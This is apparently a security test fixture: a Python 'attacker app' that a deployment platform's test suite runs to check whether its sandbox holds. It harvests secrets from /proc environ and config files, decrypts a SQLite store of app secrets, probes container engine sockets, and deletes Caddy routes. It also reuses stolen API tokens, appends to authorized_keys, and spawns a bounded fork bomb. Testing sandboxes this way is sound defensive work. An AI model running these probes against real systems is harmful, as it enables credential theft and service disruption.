"""The attacker app: hostile code that Slipway builds and runs, trying every escape we know.

    python3 probe.py build|release|oneoff|oneoff-tty   run every probe, print the report (deploy log / one-off output)
    python3 probe.py web                     serve on $PORT: GET / (liveness), GET /report (the report as JSON)

Standard library only (it runs in the host's Python, in a venv, and in the docker base image). The test
writes `hints.json` beside it: where the test's own $SLIPWAY_HOME, API, Caddy admin and victim app are.
The attacker is assumed to know every location (a real one guesses or scans); the sandbox must hold even
so. It also discovers them the way a real attacker would: env vars, its own cwd, /proc, a walk of /.

Safety on a shared machine: every loop is bounded; the fork bomb spawns at most FORKS sleeping processes
and kills them all; anything that changes something — DELETE of Caddy's routes, files written, API calls —
goes only to the test's own Caddy, directories and API (hints["caddy_admin"], hints["scope"], hints["api"]);
other Slipways found on the machine are only read; engine sockets are only asked GET /version.

The report: {"context", "identity", "reached": {check: [evidence…]}, "fork_bomb", "writes", "loot", …}.
An empty evidence list means the check reached nothing. `loot` is raw text the attacker got hold of: the
test looks there (and in the raw output) for canary values it planted.
"""

import base64
import http.client
import json
import os
import re
import socket
import sqlite3
import stat
import subprocess
import sys
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, HTTPServer
from socketserver import ThreadingMixIn

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "hints.json")) as _f:
    HINTS = json.load(_f)
NONCE = HINTS["nonce"]
FORKS = int(HINTS.get("forks", 2000))
TOKEN_RE = re.compile(r"slw_[A-Za-z0-9_-]{20,}")
SECRETISH = re.compile(r"SECRET|TOKEN|KEY|PASS|CANARY|DATABASE|SLIPWAY|CREDENTIAL", re.I)
PLATFORM_BINARIES = {"caddy", "slipway", "sshd", "podman", "conmon", "postgres", "containerd", "dockerd",
                     "systemd", "init", "sudo", "su", "pytest", "mariadbd", "redis-server"}
CHECKS = ("secret_key", "database", "decrypted_env", "platform_files", "other_app_files", "other_app_env",
          "caddy_admin", "caddy_config_deleted", "engine_socket", "foreign_processes", "foreign_environ",
          "signal_control_plane", "api", "system_dirs_writable")
ENGINE_SOCKETS = ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock",
                  "/tmp/slipway-podman/podman.sock", "/run/user/0/podman/podman.sock")
SKIP_WALK = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/boot", "/etc",
             "/snap", "/var/lib/containers", "/var/cache", "/var/lib/apt", "/var/lib/dpkg"}
SKIP_NAMES = {".venv", "venv", "node_modules", "site-packages", ".git", "__pycache__", "overlay", "overlay2"}
LOOT_MAX, LOOT_ITEM = 400, 2000


class Probe:
    def __init__(self, context):
        self.context = context
        self.reached = {name: [] for name in CHECKS}
        self.loot = []
        self.errors = {}
        self.writes = {}
        self.homes = set()
        self.tokens = set()
        self.keys = set()  # secret keys found (files or env), for the decryption attempt
        self.db_rows = []
        self.sockets = set()
        self.api_urls = set()
        self.caddy_tcp = set()
        self.pythons = set()  # interpreters of the control plane (they have `cryptography`)
        self.own_app = os.environ.get("SLIPWAY_APP") or self._app_from_cwd()
        self.cwd = os.path.realpath(os.getcwd())
        self.fork_bomb = {}
        self.started = time.time()

    # ---- helpers -------------------------------------------------------------------------------------

    def hit(self, check, evidence):
        if len(self.reached[check]) < 50:
            self.reached[check].append(str(evidence)[:300])

    def grab(self, text):
        if not text:
            return
        text = text if isinstance(text, str) else text.decode("utf-8", "replace")
        self.tokens.update(TOKEN_RE.findall(text))
        if len(self.loot) < LOOT_MAX:
            self.loot.append(text[:LOOT_ITEM])

    def attempt(self, name, fn):
        try:
            fn()
        except Exception as exc:  # a probe that breaks must not stop the others
            self.errors[name] = f"{type(exc).__name__}: {exc}"[:300]

    def _app_from_cwd(self):
        parts = os.path.realpath(os.getcwd()).split(os.sep)
        if "artifacts" in parts and parts.index("artifacts") + 1 < len(parts):
            return parts[parts.index("artifacts") + 1]
        return ""

    def is_own(self, path):
        real = os.path.realpath(path)
        if real == self.cwd or real.startswith(self.cwd + os.sep):
            return True
        return bool(self.own_app) and self.own_app in real.split(os.sep)

    def is_victim(self, path):
        victim = HINTS.get("victim", "")
        parts = os.path.realpath(path).split(os.sep)
        return any(p == victim or p.startswith(victim + "-") for p in parts) if victim else False

    # ---- the probes ----------------------------------------------------------------------------------

    def run(self):
        steps = [("identity", self.identity), ("processes", self.processes), ("homes", self.find_homes),
                 ("home_files", self.home_files), ("database", self.database), ("decrypt", self.decrypt),
                 ("sockets", self.find_sockets), ("engine", self.engine), ("caddy", self.caddy),
                 ("api", self.api), ("writes", self.write_outside), ("system_dirs", self.system_dirs)]
        if self.context in ("build", "web", "oneoff", "oneoff-tty"):
            steps.append(("fork_bomb", self.bomb))
        for name, fn in steps:
            self.attempt(name, fn)
        return self.report()

    def identity(self):
        status = {}
        with open("/proc/self/status") as f:
            for line in f:
                key, _, value = line.partition(":")
                status[key] = value.strip()
        self.ident = {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "groups": os.getgroups(),
                      "cap_eff": status.get("CapEff"), "cap_prm": status.get("CapPrm"),
                      "cap_bnd": status.get("CapBnd"), "no_new_privs": status.get("NoNewPrivs"),
                      "seccomp": status.get("Seccomp"), "pid": os.getpid(), "cwd": self.cwd,
                      "own_app": self.own_app, "hostname": socket.gethostname()}
        setuid = []
        for d in ("/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/local/bin"):
            try:
                for name in os.listdir(d):
                    try:
                        if os.stat(os.path.join(d, name)).st_mode & stat.S_ISUID:
                            setuid.append(os.path.join(d, name))
                    except OSError:
                        pass
            except OSError:
                pass
        self.ident["setuid_binaries"] = sorted(set(setuid))[:30]
        for value in os.environ.values():  # what it was given (its own env: not an escape by itself)
            self.tokens.update(TOKEN_RE.findall(value))

    def _ancestors(self):
        chain, pid = set(), os.getpid()
        while pid > 1:
            try:
                with open(f"/proc/{pid}/stat") as f:
                    pid = int(f.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                break
            chain.add(pid)
        return chain

    def processes(self):
        me, ancestors = os.getpid(), self._ancestors()
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == me:
                continue
            pid = int(entry)
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    argv = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
            except OSError:
                continue
            if not argv:
                continue
            platform = _is_platform(argv)
            if pid in ancestors and not platform:
                continue  # its own sandbox (bwrap, sh -c, a container's init)
            cmd = " ".join(argv)[:200]
            self.hit("foreign_processes", f"{pid} {cmd}")
            for arg in argv:
                if "/instances/" in arg or "/artifacts/" in arg:
                    self.homes.add(arg.split("/instances/")[0].split("/artifacts/")[0])
                if arg.startswith("127.0.0.1:") or arg.startswith("localhost:"):
                    self.caddy_tcp.add(arg)
            try:
                exe = os.readlink(f"/proc/{pid}/exe")
                if "python" in os.path.basename(exe) and any("slipway" in a for a in argv[:3]):
                    self.pythons.add(exe)
            except OSError:
                pass
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    env = dict(kv.split("=", 1) for kv in f.read().decode("utf-8", "replace").split("\0")
                               if "=" in kv)
            except OSError:
                env = None
            if env is not None:
                self.hit("foreign_environ", f"{pid} {argv[0]}")
                if "SLIPWAY_APP" in env:  # another app: all of it
                    self.grab("\n".join(f"{k}={v}" for k, v in env.items()))
                    if self.is_victim("/" + env["SLIPWAY_APP"]):
                        self.hit("other_app_env", f"environ of {pid} ({env['SLIPWAY_APP']})")
                else:
                    self.grab("\n".join(f"{k}={v}" for k, v in env.items() if SECRETISH.search(k)))
                if env.get("SLIPWAY_HOME"):
                    self.homes.add(env["SLIPWAY_HOME"])
                if env.get("SLIPWAY_SECRET_KEY"):
                    self.keys.add(env["SLIPWAY_SECRET_KEY"])
                for name in ("SLIPWAY_URL", "SLIPWAY_LISTEN"):
                    if env.get(name):
                        self.api_urls.add(env[name] if "://" in env[name] else "http://" + env[name])
                if env.get("SLIPWAY_CADDY_ADMIN"):
                    self.caddy_tcp.add(env["SLIPWAY_CADDY_ADMIN"])
            try:
                os.kill(pid, 0)  # allowed to signal it: it could as well SIGKILL it
                if platform:
                    self.hit("signal_control_plane", f"{pid} {cmd[:100]}")
            except OSError:
                pass

    def find_homes(self):
        candidates = {HINTS["home"], os.environ.get("SLIPWAY_HOME", ""),
                      os.path.join(os.environ.get("XDG_DATA_HOME", os.path.expanduser("~/.local/share")),
                                   "slipway")}
        path = self.cwd
        while path not in ("/", ""):
            path = os.path.dirname(path)
            candidates.add(path)
        candidates.update(self.homes)
        # walk / for secret.key / slipway.db (bounded in time and entries)
        deadline, seen = time.monotonic() + 6.0, 0
        for root, dirs, files in os.walk("/"):
            if time.monotonic() > deadline or seen > 200000:
                self.errors["walk"] = f"stopped after {seen} entries"
                break
            seen += len(dirs) + len(files)
            dirs[:] = [d for d in dirs if d not in SKIP_NAMES and os.path.join(root, d) not in SKIP_WALK]
            if "secret.key" in files or "slipway.db" in files:
                candidates.add(root)
        self.homes = {h for h in candidates if h and os.path.isdir(h) and (
            os.path.exists(os.path.join(h, "secret.key")) or os.path.exists(os.path.join(h, "slipway.db"))
            or os.path.isdir(os.path.join(h, "instances")) or os.path.isdir(os.path.join(h, "artifacts")))}
        self.homes_seen = sorted(self.homes)

    def home_files(self):
        for home in sorted(self.homes):
            key = os.path.join(home, "secret.key")
            try:
                with open(key) as f:
                    value = f.read().strip()
                self.hit("secret_key", f"{key}: {value}")
                self.keys.add(value)
                self.grab(value)
            except OSError:
                pass
            budget = 3000
            for root, dirs, files in os.walk(home):
                dirs[:] = [d for d in dirs if d not in ("node_modules", "__pycache__", "site-packages", "objects")]
                for name in files:
                    budget -= 1
                    if budget < 0:
                        return
                    path = os.path.join(root, name)
                    if self.is_own(path) or os.path.islink(path):
                        continue
                    try:
                        with open(path, "rb") as f:
                            data = f.read(4096)
                    except OSError:
                        continue
                    victim = self.is_victim(path)
                    self.hit("other_app_files" if victim else "platform_files", path)
                    if name == "spec.json":
                        try:
                            with open(path) as f:
                                spec = json.loads(f.read())
                            env = spec.get("instance", spec).get("env", {})
                        except (OSError, ValueError, AttributeError):
                            env = {}
                        if env:
                            self.grab("\n".join(f"{k}={v}" for k, v in env.items()))
                            if victim:
                                self.hit("other_app_env", path)
                    elif name.endswith((".log", ".txt", ".key", ".json", ".toml", ".py", ".conf")) or \
                            name in ("authorized_keys", "Caddyfile"):
                        self.grab(data)
                    if name.endswith(".sock") or stat.S_ISSOCK(os.stat(path).st_mode):
                        self.sockets.add(path)

    def database(self):
        for home in sorted(self.homes):
            path = os.path.join(home, "slipway.db")
            try:
                with open(path, "rb") as f:
                    head = f.read(16)
            except OSError:
                continue
            self.hit("database", f"{path}: {head!r}")
            try:
                conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=2)
                rows = conn.execute("SELECT apps.name, env_vars.key, env_vars.value_enc FROM env_vars "
                                    "JOIN apps ON apps.id = env_vars.app_id").fetchall()
                conn.close()
                self.db_rows.extend(rows)
                self.grab("\n".join(f"{a} {k} {v[:40]}" for a, k, v in rows))
            except sqlite3.Error as exc:
                self.errors["database_query"] = str(exc)

    def decrypt(self):
        """With a secret key and the DB rows, decrypt every app's env with the control plane's own Python."""
        if not (self.keys and self.db_rows):
            return
        script = ("import base64,json,sys\n"
                  "from cryptography.fernet import Fernet,InvalidToken\n"
                  "from cryptography.hazmat.primitives import hashes\n"
                  "from cryptography.hazmat.primitives.kdf.hkdf import HKDF\n"
                  "d=json.load(sys.stdin);out=[]\n"
                  "for k in d['keys']:\n"
                  " f=Fernet(base64.urlsafe_b64encode(HKDF(algorithm=hashes.SHA256(),length=32,salt=b'slipway',"
                  "info=b'secrets-at-rest').derive(k.encode())))\n"
                  " for a,n,v in d['rows']:\n"
                  "  try: out.append([a,n,f.decrypt(v.encode()).decode()])\n"
                  "  except InvalidToken: pass\n"
                  "print(json.dumps(out))\n")
        for python in sorted(self.pythons) + [sys.executable]:
            try:
                done = subprocess.run([python, "-c", script], input=json.dumps(
                    {"keys": sorted(self.keys), "rows": self.db_rows}), capture_output=True, text=True, timeout=20)
            except (OSError, subprocess.TimeoutExpired):
                continue
            if done.returncode == 0:
                for app, name, value in json.loads(done.stdout):
                    self.hit("decrypted_env", f"{app} {name}={value}")
                    self.grab(f"{app} {name}={value}")
                return

    def find_sockets(self):
        roots = [HINTS["home"], *self.homes, "/run", "/var/run", "/tmp"]
        deadline = time.monotonic() + 3.0
        for top in roots:
            for root, dirs, files in os.walk(top):
                if time.monotonic() > deadline or root.count(os.sep) - top.count(os.sep) > 4:
                    dirs[:] = []
                    continue
                dirs[:] = [d for d in dirs if d not in SKIP_NAMES]
                for name in files:
                    path = os.path.join(root, name)
                    try:
                        if stat.S_ISSOCK(os.stat(path).st_mode):
                            self.sockets.add(path)
                    except OSError:
                        pass

    def engine(self):
        for path in sorted(set(ENGINE_SOCKETS) | {s for s in self.sockets if re.search(r"docker|podman", s)}):
            status, body = _unix_request(path, "GET", "/version")
            if status == 200:
                self.hit("engine_socket", f"{path}: {body[:120]!r}")

    def caddy(self):
        hinted = HINTS["caddy_admin"]  # the test's own Caddy: host:port, or a unix socket's path
        targets = [("unix" if hinted.startswith("/") else "tcp", hinted), ("tcp", "127.0.0.1:2019"),
                   ("tcp", "localhost:2019")]
        targets += [("tcp", t) for t in sorted(self.caddy_tcp)]
        gateway = _default_gateway()
        if gateway:
            targets += [("tcp", f"{gateway}:2019")]
            if not hinted.startswith("/"):
                targets.append(("tcp", f"{gateway}:{_port(hinted)}"))
        targets += [("unix", s) for s in sorted(self.sockets) if not re.search(r"docker|podman", s)]
        seen = set()
        for kind, where in targets:
            if (kind, where) in seen:
                continue
            seen.add((kind, where))
            status, body = _admin(kind, where, "GET", "/config/")
            if status == 200:
                self.hit("caddy_admin", f"{kind}:{where}")
                self.grab(body[:1500])
                if _ours(kind, where):  # destructive only against the test's own Caddy
                    # /config/apps: every route of every app (not /config/: that also moves the admin
                    # endpoint to Caddy's default :2019, where another Caddy of the machine may live)
                    status, _ = _admin(kind, where, "DELETE", "/config/apps")
                    if status == 200:
                        self.hit("caddy_config_deleted", f"{kind}:{where}")

    def api(self):
        urls = {HINTS["api"], *(u for u in self.api_urls if u.rstrip("/").endswith(":" + _port(HINTS["api"])))}
        gateway = _default_gateway()
        if gateway:
            urls.add(f"http://{gateway}:{_port(HINTS['api'])}")
        for url in sorted(urls):
            for token in sorted(self.tokens)[:20]:
                status = _http_status(url + "/api/v1/apps", token)
                if status == 200:
                    self.hit("api", f"{url} with {token[:12]}…: GET /api/v1/apps -> 200")

    def write_outside(self):
        name = f"attacker-{NONCE}-{self.context}"
        # only into the test's own directories: the homes of other Slipways on this machine are read, never
        # written (a shared machine)
        homes = sorted(h for h in self.homes if _in_scope(h))
        bad = [os.path.join(h, name) for h in homes]
        for home in homes:
            for sub in ("instances", "artifacts", "caddy", "repos", "git", os.path.join("artifacts", HINTS["victim"])):
                if os.path.isdir(os.path.join(home, sub)):
                    bad.append(os.path.join(home, sub, name))
        keys = HINTS.get("authorized_keys")
        for path in bad:
            self._write(path)
        if keys and os.path.isdir(os.path.dirname(keys)):
            try:
                with open(keys, "a") as f:
                    f.write(f"# {name}\n")
                self.writes[keys] = "ok"
            except OSError as exc:
                self.writes[keys] = exc.strerror or str(exc)
        # shared scratch dirs too. Whether a write escaped is judged by the test on the host's side: a write
        # that lands in the sandbox's own private /tmp or tmpfs is no escape
        for d in ("/tmp", "/var/tmp", "/dev/shm"):
            self._write(os.path.join(d, name))
        if self.context != "build":  # the release is read-only once built
            self._write(os.path.join(self.cwd, name))

    def _write(self, path):
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
            os.write(fd, f"written by the attacker ({self.context})\n".encode())
            os.close(fd)
            self.writes[path] = "ok"
        except OSError as exc:
            self.writes[path] = exc.strerror or str(exc)

    def system_dirs(self):
        for d in ("/etc", "/usr/bin", "/usr/local/bin", "/root", "/var/lib", "/boot", "/home"):
            if os.path.isdir(d) and os.access(d, os.W_OK):
                self.hit("system_dirs_writable", d)

    def bomb(self):
        """Spawn up to FORKS sleeping processes, count them, kill them all: bounded in count and time."""
        pids, error = [], ""
        sleep = "/bin/sleep" if os.path.exists("/bin/sleep") else "/usr/bin/sleep"
        deadline = time.monotonic() + 30
        while len(pids) < FORKS and time.monotonic() < deadline:
            try:
                pids.append(os.posix_spawn(sleep, ["sleep", "60"], {}))
            except OSError as exc:
                error = exc.strerror or str(exc)
                break
        self.fork_bomb = {"tried": FORKS, "spawned": len(pids), "stopped_by": error or "bound reached",
                          "seconds": round(30 - (deadline - time.monotonic()), 2)}
        for pid in pids:
            try:
                os.kill(pid, 9)
            except OSError:
                pass
        for pid in pids:
            try:
                os.waitpid(pid, 0)
            except OSError:
                pass

    def report(self):
        return {"context": self.context, "identity": getattr(self, "ident", {}), "reached": self.reached,
                "fork_bomb": self.fork_bomb, "writes": self.writes, "homes": getattr(self, "homes_seen", []),
                "tokens_found": len(self.tokens), "sockets": sorted(self.sockets)[:50], "errors": self.errors,
                "loot": self.loot, "seconds": round(time.time() - self.started, 2)}


# ---- small clients ------------------------------------------------------------------------------------

def _is_platform(argv):
    base = os.path.basename(argv[0])
    if base in PLATFORM_BINARIES or argv[0].endswith("/slipway"):
        return True
    return "python" in base and any(a.startswith("slipway") or a.endswith("/slipway") or "pytest" in a
                                    for a in argv[1:4])


class _UnixConnection(http.client.HTTPConnection):
    def __init__(self, path, timeout=3):
        super().__init__("localhost", timeout=timeout)
        self.path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(self.timeout)
        self.sock.connect(self.path)


def _unix_request(path, method, url, headers=None):
    try:
        conn = _UnixConnection(path)
        conn.request(method, url, headers=headers or {})
        response = conn.getresponse()
        body = response.read(4096)
        conn.close()
        return response.status, body
    except (OSError, http.client.HTTPException):
        return None, b""


def _admin(kind, where, method, path):
    if kind == "unix":
        return _unix_request(where, method, path, {"Host": "localhost"})
    host, _, port = where.rpartition(":")
    try:
        conn = http.client.HTTPConnection(host, int(port), timeout=3)
        conn.request(method, path, headers={"Host": where})
        response = conn.getresponse()
        body = response.read(4096)
        conn.close()
        return response.status, body
    except (OSError, ValueError, http.client.HTTPException):
        return None, b""


def _in_scope(path):
    return os.path.realpath(path).startswith(HINTS["scope"].rstrip("/") + "/")


def _port(url):
    return url.rstrip("/").rpartition(":")[2]


def _ours(kind, where):
    return where == HINTS["caddy_admin"] or (kind == "unix" and _in_scope(where))


def _http_status(url, token):
    from urllib.parse import urlsplit

    parts = urlsplit(url)
    try:
        conn = http.client.HTTPConnection(parts.hostname, parts.port or 80, timeout=3)
        conn.request("GET", parts.path, headers={"Authorization": f"Bearer {token}"})
        status = conn.getresponse().status
        conn.close()
        return status
    except (OSError, http.client.HTTPException):
        return None


def _default_gateway():
    """The host as seen from a container (its default route), or None."""
    try:
        with open("/proc/net/route") as f:
            for line in f.readlines()[1:]:
                fields = line.split()
                if fields[1] == "00000000" and fields[2] != "00000000":
                    raw = bytes.fromhex(fields[2])[::-1]
                    return socket.inet_ntoa(raw)
    except (OSError, IndexError, ValueError):
        pass
    return None


# ---- output -------------------------------------------------------------------------------------------

def print_report(report):
    """A readable summary, the loot in clear (as an attacker would dump it), then the whole report as
    base64 chunks (so masking of the app's own values cannot hide anything from the test)."""
    summary = {k: len(v) for k, v in report["reached"].items() if v}
    print(f"ATTACKER-SUMMARY {report['context']} reached={json.dumps(summary)} "
          f"fork_bomb={json.dumps(report['fork_bomb'])}", flush=True)
    for item in report["loot"][:60]:
        print("ATTACKER-LOOT", item[:300].replace("\n", " | "), flush=True)
    blob = base64.b64encode(zlib.compress(json.dumps(report).encode())).decode()
    chunks = [blob[i:i + 3000] for i in range(0, len(blob), 3000)] or [""]
    for i, chunk in enumerate(chunks):
        print(f"ATTACKER-REPORT {report['context']} {i + 1}/{len(chunks)} {chunk}", flush=True)


class _Server(ThreadingMixIn, HTTPServer):
    daemon_threads = True


def serve():
    state = {"report": None}

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        disable_nagle_algorithm = True

        def do_GET(self):
            if self.path.startswith("/report"):
                body = json.dumps(state["report"] or {"done": False}).encode()
                code = 200 if state["report"] else 202
            else:
                body = json.dumps({"app": "attacker", "done": state["report"] is not None}).encode()
                code = 200
            self.send_response(code)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    def work():
        time.sleep(1.0)  # let the health gate see it up first
        state["report"] = Probe("web").run()
        print_report(state["report"])

    server = _Server((HINTS.get("bind", "127.0.0.1"), int(os.environ["PORT"])), Handler)
    threading.Thread(target=work, daemon=True).start()
    print("listening on", os.environ["PORT"], flush=True)
    server.serve_forever()


if __name__ == "__main__":
    mode = sys.argv[1] if len(sys.argv) > 1 else "oneoff"
    if mode == "web":
        serve()
    else:
        print_report(Probe(mode).run())
